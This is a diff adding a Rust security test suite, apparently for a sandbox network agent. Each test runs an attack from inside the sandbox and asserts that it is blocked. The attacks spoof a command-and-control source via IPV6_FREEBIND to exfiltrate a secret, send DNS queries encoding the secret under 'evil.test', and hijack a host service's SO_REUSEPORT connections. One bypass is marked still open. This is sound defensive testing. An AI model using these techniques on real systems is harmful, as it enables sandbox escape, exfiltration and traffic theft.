@@ -1,0 +1,493 @@
+//! A thirteenth attack review, run as the process inside the sandbox: each test performs
+//! one attack from a sandbox (uid 65534, arbitrary Python) against the real agent and the
+//! real kernel, with an outside helper process (root, in no hb cgroup) standing for the
+//! attacker's command-and-control host on an address the policy never validated, and
+//! asserts the secure outcome. A test marked `#[ignore = "open: …"]` is a break found and
+//! not yet fixed: it fails against the current agent.
+//!
+//! Angle: the sandbox as a *server*, and as a holder of local ports in the node's shared
+//! network namespace — what its listeners accept and who their replies may go to
+//! (`cgroup_skb/ingress`, `sock_ops`, `HB_SOCK_PEER`), what it hears besides datagrams
+//! (ICMP errors), and whether its ports can take connections meant for someone else.
+//!
+//! Everything lives on `lo` in the test's own network namespace; "remote" addresses are
+//! documentation ranges, routed to `lo` where a packet must go somewhere a capture sees it.
+
+use std::{
+    io::{BufRead as _, BufReader, Write as _},
+    process::{Child, ChildStdin, ChildStdout, Command, Stdio},
+};
+
+use hb_tests::{TestEnv, private_netns, python, random_suffix, sandboxed::nobody_python};
+use serde_json::Value;
+
+/// The sandbox's own address (its listener), which its policy allows.
+const OWN6: &str = "2001:db8::20";
+const OWN4: &str = "203.0.113.20";
+/// The attacker's command-and-control host: never allowed, never validated, not an
+/// address of this host (IPv6: routed to `lo`, so a packet sent to it is captured there,
+/// as on a node it would leave by the default route).
+const C2_6: &str = "2001:db8:66::66";
+const C2_NET6: &str = "2001:db8:66::/64";
+
+fn config() -> String {
+    r#"
+[dns]
+listen = "127.0.0.1:5300"
+upstreams = ["127.0.0.1:5400"]
+
+[egress]
+exception_cidrs = ["203.0.113.0/24", "198.51.100.0/24", "2001:db8::/32"]
+
+[[policy]]
+name = "closed"
+# The sandbox's own addresses, so it may connect to its own listener.
+allow_cidrs = ["203.0.113.20/32", "2001:db8::20/128"]
+"#
+    .to_owned()
+}
+
+fn world(name: &str) -> TestEnv {
+    world_with(name, "", &[])
+}
+
+/// A policy that accepts inbound connections.
+const OPEN_POLICY: &str = r#"
+[[policy]]
+name = "open"
+inbound = true
+"#;
+
+fn world_with(name: &str, extra: &str, addrs: &[&str]) -> TestEnv {
+    let mut all = vec![OWN4, OWN6];
+    all.extend_from_slice(addrs);
+    private_netns(&all);
+    let mut env = TestEnv::new(name, &format!("{}{extra}", config()));
+    env.start_agent();
+    env
+}
+
+/// An outside helper (root, in no hb cgroup), reading its first line (`ready`) before it
+/// returns; its stdin closing makes it print its JSON summary and exit.
+struct Outside {
+    child: Child,
+    stdin: Option<ChildStdin>,
+    out: BufReader<ChildStdout>,
+}
+
+impl Outside {
+    fn start(script: &str, args: &[&str]) -> Self {
+        let mut o = Self::spawn(script, args);
+        let line = o.line();
+        assert_eq!(line, "ready", "outside helper said {line:?}");
+        o
+    }
+
+    fn line(&mut self) -> String {
+        let mut line = String::new();
+        self.out.read_line(&mut line).expect("helper's line");
+        line.trim().to_owned()
+    }
+
+    fn spawn(script: &str, args: &[&str]) -> Self {
+        let mut child = Command::new(python())
+            .arg("-c")
+            .arg(script)
+            .args(args)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::inherit())
+            .spawn()
+            .expect("outside helper");
+        let stdin = child.stdin.take();
+        let out = BufReader::new(child.stdout.take().expect("stdout"));
+        Self { child, stdin, out }
+    }
+
+    fn finish(mut self) -> Value {
+        if let Some(mut s) = self.stdin.take() {
+            let _ = s.write_all(b"\n");
+        }
+        let mut line = String::new();
+        self.out.read_line(&mut line).expect("helper's summary");
+        let _ = self.child.wait();
+        serde_json::from_str(line.trim()).unwrap_or_else(|e| panic!("helper said {line:?}: {e}"))
+    }
+}
+
+impl Drop for Outside {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+fn sandbox_json(env: &TestEnv, policy: &str, script: &str, args: &[&str]) -> Value {
+    let out = nobody_python(env, policy, script, args);
+    let text = String::from_utf8_lossy(&out.stdout);
+    let last = text.lines().last().unwrap_or_default();
+    serde_json::from_str(last).unwrap_or_else(|e| {
+        panic!(
+            "sandbox said {text:?} ({e}); stderr {}",
+            String::from_utf8_lossy(&out.stderr)
+        )
+    })
+}
+
+/// The C2, a host "out there": a tun device in the test's namespace (nothing leaves it:
+/// the device is this helper's file descriptor) routes the C2's network to this helper,
+/// which sees every packet sent there. It answers the first SYN-ACK from the sandbox's
+/// address with the ACK that completes the handshake, as the C2 on a node's network
+/// would, and records the payload of every later segment, and of every UDP datagram sent
+/// to the C2's network from any address. Summary:
+/// `{"synacks": N, "datagrams": N, "payload": "…"}`.
+const PY_C2_TCP6: &str = r#"
+import fcntl, json, os, select, socket, struct, subprocess, sys
+own = socket.inet_pton(socket.AF_INET6, sys.argv[1])
+net = sys.argv[2]
+prefix = socket.inet_pton(socket.AF_INET6, net.split("/")[0])[:8]
+tun = os.open("/dev/net/tun", os.O_RDWR)
+fcntl.ioctl(tun, 0x400454ca, struct.pack("16sH", b"hbc2", 0x0001 | 0x1000))  # TUNSETIFF, IFF_TUN | IFF_NO_PI
+subprocess.run(["ip", "link", "set", "hbc2", "up"], check=True)
+subprocess.run(["ip", "-6", "route", "add", net, "dev", "hbc2"], check=True)
+def csum(b):
+    if len(b) % 2: b += b"\0"
+    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+    while s >> 16: s = (s & 0xffff) + (s >> 16)
+    return ~s & 0xffff
+def ack(src, dst, sport, dport, seq, acknum):
+    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, acknum, 5 << 4, 0x10, 65535, 0, 0)
+    pseudo = src + dst + struct.pack("!I3xB", len(tcp), 6)
+    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
+    os.write(tun, struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + src + dst + tcp)
+synacks, datagrams, payload, acked = 0, 0, b"", False
+print("ready", flush=True)
+while True:
+    r, _, _ = select.select([tun, sys.stdin], [], [])
+    if sys.stdin in r:
+        break
+    pkt = os.read(tun, 65535)
+    if len(pkt) < 48 or pkt[0] >> 4 != 6 or pkt[24:32] != prefix:
+        continue
+    src, dst = pkt[8:24], pkt[24:40]
+    if pkt[6] == 17:
+        datagrams += 1
+        payload += pkt[48:]
+        continue
+    if pkt[6] != 6 or src != own or len(pkt) < 60:
+        continue
+    sport, dport, seq, acknum, off, flags = struct.unpack("!HHIIBB", pkt[40:54])
+    if flags & 0x12 == 0x12:
+        synacks += 1
+        if not acked:
+            ack(dst, src, dport, sport, acknum, seq + 1)
+            acked = True
+    payload += pkt[40 + (off >> 4) * 4:]
+print(json.dumps({"synacks": synacks, "datagrams": datagrams, "payload": payload.decode("latin-1")}), flush=True)
+"#;
+
+/// In the sandbox: a listener on its own address; a client socket bound (`IPV6_FREEBIND`,
+/// no privilege needed) to the C2's address, connecting to that listener — an allowed
+/// destination. The listener's SYN-ACK goes to the client's source, the C2, which
+/// completes the handshake; whatever the sandbox writes to the accepted connection goes
+/// to the C2 too, unless hb refuses it.
+const PY_SPOOFED_CLIENT: &str = r#"
+import json, socket, sys, time
+own, c2, secret = sys.argv[1], sys.argv[2], sys.argv[3]
+res = {}
+l = socket.socket(socket.AF_INET6); l.bind((own, 0)); l.listen(4)
+port = l.getsockname()[1]
+c = socket.socket(socket.AF_INET6)
+try:
+    if sys.argv[4] == "option":
+        c.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND
+    c.bind((c2, 0))
+except OSError as e:
+    res["bind"] = str(e)
+    print(json.dumps(res)); sys.exit(0)
+c.setblocking(False)
+res["connect"] = c.connect_ex((own, port))
+l.settimeout(6)
+try:
+    s, peer = l.accept()
+    res["accepted"] = peer[0]
+    s.sendall(secret.encode())
+    time.sleep(1)
+except OSError as e:
+    res["accepted"] = str(e)
+print(json.dumps(res))
+"#;
+
+/// How a sandbox's socket gets an address that is not the host's: `IPV6_FREEBIND` (no
+/// privilege needed), or the host's `net.ipv6.ip_nonlocal_bind = 1` (set here in the
+/// test's own namespace), which needs no option at all.
+fn nonlocal(mode: &str) {
+    if mode == "sysctl" {
+        ip_sysctl("net.ipv6.ip_nonlocal_bind=1");
+    }
+}
+
+fn ip_sysctl(kv: &str) {
+    let out = Command::new("sysctl")
+        .args(["-w", kv])
+        .output()
+        .expect("sysctl");
+    assert!(
+        out.status.success(),
+        "sysctl {kv}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+fn spoofed_client(name: &str, mode: &str) {
+    let env = world(name);
+    nonlocal(mode);
+    let secret = format!("exfil-{}", random_suffix());
+    let c2 = Outside::start(PY_C2_TCP6, &[OWN6, C2_NET6]);
+    let got = sandbox_json(
+        &env,
+        "closed",
+        PY_SPOOFED_CLIENT,
+        &[OWN6, C2_6, &secret, mode],
+    );
+    let seen = c2.finish();
+    let payload = seen["payload"].as_str().unwrap_or_default();
+    println!(
+        "figure: {mode}: sandbox {got}; C2 saw {} SYN-ACK(s), secret {}",
+        seen["synacks"],
+        if payload.contains(&secret) {
+            "received"
+        } else {
+            "not received"
+        }
+    );
+    assert!(
+        !payload.contains(&secret),
+        "the sandbox's data reached the C2 {C2_6}: {seen}"
+    );
+    assert_eq!(
+        seen["synacks"], 0,
+        "the sandbox's listener answered the C2 {C2_6}: {seen}"
+    );
+    if mode == "option" {
+        env.wait_event("IPV6_FREEBIND refused", |e| {
+            e["hook"] == "setsockopt" && e["reason"] == "nonlocal_source"
+        });
+    } else {
+        env.wait_event("the spoofed client's SYN refused", |e| {
+            e["hook"] == "skb_ingress" && e["reason"] == "inbound" && e["dst"] == C2_6
+        });
+    }
+}
+
+/// A sandbox that may accept no connection from outside makes its own listener admit a
+/// "same sandbox" client whose source address is the C2's (an IPv6 socket may bind any
+/// address with `IPV6_FREEBIND`, without privilege, and send from it): the listener's
+/// SYN-ACK, then every byte written to the accepted connection, is addressed to the C2,
+/// which the policy never allowed — and the egress hook passed them, because the ingress
+/// path recorded the client's address as the sockets' admitted peer. The C2 completes the
+/// handshake from the network. Now the option is refused (`nonlocal_source`).
+#[test]
+fn a_same_sandbox_client_with_a_foreign_source_does_not_open_a_connection_to_it() {
+    spoofed_client("ar13-spoof", "option");
+}
+
+/// As above on a host that lets every socket bind a non-local address
+/// (`net.ipv6.ip_nonlocal_bind = 1`, no option to refuse): the listener now admits a
+/// same-sandbox client only from a local source (the address it connected to, or
+/// loopback), so the SYN is dropped and reported.
+#[test]
+fn a_same_sandbox_client_from_a_nonlocal_bind_host_does_not_open_a_connection_to_it() {
+    spoofed_client("ar13-spoofsys", "sysctl");
+}
+
+/// In the sandbox: a UDP socket bound (`IPV6_FREEBIND`) to the C2's address asks a
+/// nameserver for `SECRET.evil.test`; the kernel redirects it to hb's resolver, which
+/// answers the source of the query — the C2 — with the question in its answer.
+const PY_SPOOFED_QUERY: &str = r#"
+import json, socket, struct, sys, time
+c2, secret = sys.argv[1], sys.argv[2]
+u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+res = {}
+try:
+    if sys.argv[3] == "option":
+        u.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND
+    u.bind((c2, 0))
+except OSError as e:
+    res["bind"] = str(e)
+    print(json.dumps(res)); sys.exit(0)
+name = b"".join(bytes([len(x)]) + x.encode() for x in [secret, "evil", "test"]) + b"\0"
+q = struct.pack("!6H", 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)
+try:
+    for _ in range(3):
+        u.sendto(q, ("2001:db8::53", 53))
+    res["sent"] = True
+except OSError as e:
+    res["sent"] = str(e)
+time.sleep(1.5)
+print(json.dumps(res))
+"#;
+
+fn spoofed_query(name: &str, mode: &str) {
+    let env = world(name);
+    nonlocal(mode);
+    let secret = format!("exfil-{}", random_suffix());
+    let c2 = Outside::start(PY_C2_TCP6, &[OWN6, C2_NET6]);
+    let got = sandbox_json(&env, "closed", PY_SPOOFED_QUERY, &[C2_6, &secret, mode]);
+    let seen = c2.finish();
+    let payload = seen["payload"].as_str().unwrap_or_default();
+    println!(
+        "figure: {mode}: sandbox {got}; C2 got {} datagram(s), secret {}",
+        seen["datagrams"],
+        if payload.contains(&secret) {
+            "received"
+        } else {
+            "not received"
+        }
+    );
+    assert!(
+        !payload.contains(&secret),
+        "the resolver answered the C2 {C2_6} with the sandbox's name: {seen}"
+    );
+}
+
+/// The same foreign source on a DNS query: the kernel redirects port 53 to hb's resolver
+/// (`[::1]`), which answers whoever the query came from — the C2, an address the policy
+/// never allowed, with the sandbox's chosen name echoed in the question section. Closed
+/// by refusing `IPV6_FREEBIND` (`nonlocal_source`).
+#[test]
+fn a_dns_query_from_a_foreign_source_is_not_answered_to_it() {
+    spoofed_query("ar13-dnsspoof", "option");
+}
+
+/// As above on a host with `net.ipv6.ip_nonlocal_bind = 1`, where no option is needed.
+#[test]
+#[ignore = "open: with net.ipv6.ip_nonlocal_bind = 1 the resolver answers a query from a non-local source (the C2) with the sandbox's name; it must answer only clients whose address is the host's"]
+fn a_dns_query_from_a_nonlocal_bind_host_is_not_answered_to_its_source() {
+    spoofed_query("ar13-dnsspoofsys", "sysctl");
+}
+
+/// A host service (outside every sandbox) running as nobody, like many daemons that drop
+/// to it, on a port shared with `SO_REUSEPORT` (as multi-process servers do). Prints its
+/// port, then, when its stdin closes, `{"served": N}`.
+const PY_HOST_SERVICE: &str = r#"
+import json, os, select, socket, sys
+host = sys.argv[1]
+os.setgroups([]); os.setgid(65534); os.setuid(65534)
+l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
+l.bind((host, 0)); l.listen(64)
+print(l.getsockname()[1], flush=True)
+served = 0
+while True:
+    r, _, _ = select.select([l, sys.stdin], [], [])
+    if l in r:
+        c, _ = l.accept(); c.settimeout(1)
+        try:
+            c.recv(100); c.sendall(b"ok"); served += 1
+        except OSError:
+            pass
+        c.close()
+    if sys.stdin in r:
+        break
+print(json.dumps({"served": served}), flush=True)
+"#;
+
+/// In the sandbox: joins the host service's `SO_REUSEPORT` group (same uid) and takes
+/// what the kernel hands it for four seconds. `{"joined": …, "stolen": [what clients sent]}`.
+const PY_REUSEPORT_THIEF: &str = r#"
+import json, socket, sys, time
+host, port = sys.argv[1], int(sys.argv[2])
+res = {"stolen": []}
+try:
+    l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
+    l.bind((host, port)); l.listen(64)
+    res["joined"] = True
+except OSError as e:
+    res["joined"] = str(e)
+    l = None
+print("ready", flush=True)
+end = time.time() + 4
+while l and time.time() < end:
+    l.settimeout(max(0.05, end - time.time()))
+    try:
+        c, _ = l.accept(); c.settimeout(1)
+        res["stolen"].append(c.recv(100).decode(errors="replace")); c.sendall(b"ok"); c.close()
+    except OSError:
+        pass
+print(json.dumps(res), flush=True)
+"#;
+
+/// Outside clients: 24 connections (each from a new source port, so the reuseport hash
+/// spreads them) that send `secret-I` and wait for `ok`. `{"answered": N}`.
+const PY_CLIENTS: &str = r#"
+import json, socket, sys
+host, port, secret = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+answered = 0
+for i in range(24):
+    try:
+        s = socket.create_connection((host, port), timeout=0.4)
+        s.sendall(("%s-%d" % (secret, i)).encode())
+        if s.recv(10) == b"ok":
+            answered += 1
+        s.close()
+    except OSError:
+        pass
+print(json.dumps({"answered": answered}))
+"#;
+
+/// Where the host service listens: an address of this host, outside every sandbox.
+const SERVICE4: &str = "198.51.100.7";
+
+/// Runs the reuseport thief in a sandbox of `policy` beside the host service while the
+/// clients connect: (what the thief said, what the service served, what the clients got).
+fn reuseport_round(env: &TestEnv, policy: &str) -> (Value, Value, Value) {
+    let mut service = Outside::spawn(PY_HOST_SERVICE, &[SERVICE4]);
+    let port = service.line();
+    let mut thief = hb_tests::sandboxed::Running::spawn(hb_tests::sandboxed::nobody_command(
+        env,
+        policy,
+        &[],
+        &[python(), "-c", PY_REUSEPORT_THIEF, SERVICE4, &port],
+    ));
+    assert_eq!(thief.line(), "ready");
+    let secret = format!("secret{}", random_suffix());
+    let out = Command::new(python())
+        .args(["-c", PY_CLIENTS, SERVICE4, &port, &secret])
+        .output()
+        .expect("clients");
+    let clients: Value = serde_json::from_slice(&out.stdout).expect("clients' JSON");
+    let said = thief.line();
+    let stolen: Value =
+        serde_json::from_str(&said).unwrap_or_else(|e| panic!("thief said {said:?}: {e}"));
+    (stolen, service.finish(), clients)
+}
+
+/// A host service that runs as nobody and shares its port with `SO_REUSEPORT` lets any
+/// socket of the same uid join its group; every sandbox runs as nobody too. A sandbox
+/// that may accept connections (`inbound = true`) joins and receives the connections —
+/// and the data — the host's clients meant for the service; one that may not
+/// (`inbound = false`) joins and its listener drops them: the service's clients are cut.
+#[test]
+fn a_sandbox_cannot_join_a_host_services_reuseport_group() {
+    let env = world_with("ar13-reuseport", OPEN_POLICY, &[SERVICE4]);
+    for policy in ["open", "closed"] {
+        let (thief, served, clients) = reuseport_round(&env, policy);
+        let stolen = thief["stolen"].as_array().map_or(0, Vec::len);
+        println!(
+            "figure: policy {policy}: sandbox joined {}, took {stolen} of 24 connections; \
+             the service served {}, the clients got {} answers",
+            thief["joined"], served["served"], clients["answered"]
+        );
+        assert_eq!(
+            stolen, 0,
+            "{policy}: the sandbox took the service's clients: {thief}"
+        );
+        assert_eq!(
+            clients["answered"], 24,
+            "{policy}: the service's clients were cut: {clients}, service {served}, sandbox {thief}"
+        );
+    }
+    env.wait_event("SO_REUSEPORT refused", |e| {
+        e["hook"] == "setsockopt" && e["reason"] == "reuseport"
+    });
+}
